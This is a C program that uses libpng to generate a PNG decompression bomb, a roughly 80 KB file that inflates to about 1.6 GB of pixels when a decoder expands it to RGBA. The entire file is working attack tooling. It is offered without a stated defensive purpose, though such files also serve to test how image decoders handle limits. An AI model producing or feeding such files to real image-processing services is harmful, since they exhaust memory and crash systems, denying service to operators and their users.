/*
 * mkbomb.c - write a decompression bomb: a PNG file of some 80 KB that is 1.6 GB of pixels
 *
 * White rows of one bit per pixel, written one by one, so it takes little memory and time itself. A reader
 * that wants RGBA gets 32 times as many bits as the rows have, and these deflate to a six-hundredth.
 */
#include <png.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int write_bomb(png_structp png, png_infop info, FILE *file, png_uint_32 side, png_bytep row)
{
	if (setjmp(png_jmpbuf(png)))
		return -1;
	png_init_io(png, file);
	png_set_IHDR(png, info, side, side, 1, PNG_COLOR_TYPE_GRAY, PNG_INTERLACE_NONE,
	             PNG_COMPRESSION_TYPE_DEFAULT, PNG_FILTER_TYPE_DEFAULT);
	png_set_filter(png, PNG_FILTER_TYPE_BASE, PNG_FILTER_NONE);
	png_set_compression_level(png, 9);
	png_write_info(png, info);
	for (png_uint_32 y = 0; y < side; y++)
		png_write_row(png, row);
	png_write_end(png, info);
	return 0;
}

int main(int argc, char **argv)
{
	long side = argc == 3 ? atol(argv[2]) : 20000;

	if (argc < 2 || argc > 3 || side < 1 || side > 1000000) {
		fprintf(stderr, "usage: mkbomb FILE [PIXELS-PER-SIDE]\n");
		return 2;
	}
	size_t row_size = ((size_t)side + 7) / 8;
	png_bytep row = malloc(row_size);
	FILE *file = fopen(argv[1], "wb");
	png_structp png = png_create_write_struct(PNG_LIBPNG_VER_STRING, NULL, NULL, NULL);
	png_infop info = png ? png_create_info_struct(png) : NULL;
	int err = -1;

	if (row && file && info) {
		memset(row, 0xff, row_size);
		err = write_bomb(png, info, file, (png_uint_32)side, row);
	}
	png_destroy_write_struct(&png, &info);
	if (file && fclose(file))
		err = -1;
	free(row);
	if (err)
		perror(argv[1]);
	return err ? 1 : 0;
}
